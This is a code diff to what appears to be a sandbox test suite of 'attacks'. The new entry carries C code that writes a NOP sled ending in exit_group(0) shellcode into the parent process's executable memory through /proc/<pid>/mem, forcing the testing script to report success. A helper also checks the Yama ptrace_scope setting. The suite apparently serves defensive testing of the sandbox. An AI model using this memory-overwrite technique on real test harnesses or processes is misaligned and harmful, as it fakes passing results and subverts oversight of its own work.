@@ -1,3 +1,4 @@
+import { existsSync, readFileSync } from 'node:fs';
 import type { Attack } from './attack.ts';
 
 /** Signals and the control of other processes. */
@@ -61,8 +62,6 @@ ATTEMPT(kill(VICTIM, SIGKILL));`,
   {
     name: 'makes the script that tests it end with success',
     stage: 'c',
-    // The whole run of a command is its exit code; who can control the script can say it.
-    inProcess: true,
     source: `
 #ifdef __x86_64__
 int script = getppid();
@@ -79,4 +78,38 @@ sleep(1);
 execl("/bin/sh", "sh", "-c", "exit 1", (char *)0);
 #endif`,
   },
+  {
+    name: 'makes the script that tests it end with success, by its memory in /proc',
+    stage: 'c',
+    // The whole run of a command is its exit code, no filter sees which file is opened, and only Yama keeps one out of it.
+    ...(isYamaOn() ? {} : { inProcess: true }),
+    source: `
+#ifdef __x86_64__
+char path[64], line[256];
+snprintf(path, sizeof path, "/proc/%d/maps", getppid());
+FILE *maps = fopen(path, "r");
+snprintf(path, sizeof path, "/proc/%d/mem", getppid());
+int memory = open(path, O_RDWR);
+if (!maps || memory < 0) return 1;
+/* exit_group(0), behind as many instructions that do nothing as there is room for. */
+static unsigned char leave[] = { 0x31, 0xff, 0xb8, 0xe7, 0, 0, 0, 0x0f, 0x05 };
+static unsigned char page[4096];
+memset(page, 0x90, sizeof page);
+memcpy(page + sizeof page - sizeof leave, leave, sizeof leave);
+while (fgets(line, sizeof line, maps)) {
+  unsigned long from, to; char rights[8];
+  if (sscanf(line, "%lx-%lx %7s", &from, &to, rights) != 3 || rights[2] != 'x' || strstr(line, "[v")) continue;
+  for (; from < to; from += sizeof page) pwrite(memory, page, sizeof page, from);
+}
+return 1;
+#else
+return 1;
+#endif`,
+  },
 ];
+
+/** Whether processes may look into none but those that they started. */
+function isYamaOn(): boolean {
+  const file = '/proc/sys/kernel/yama/ptrace_scope';
+  return existsSync(file) && readFileSync(file, 'utf8').trim() !== '0';
+}
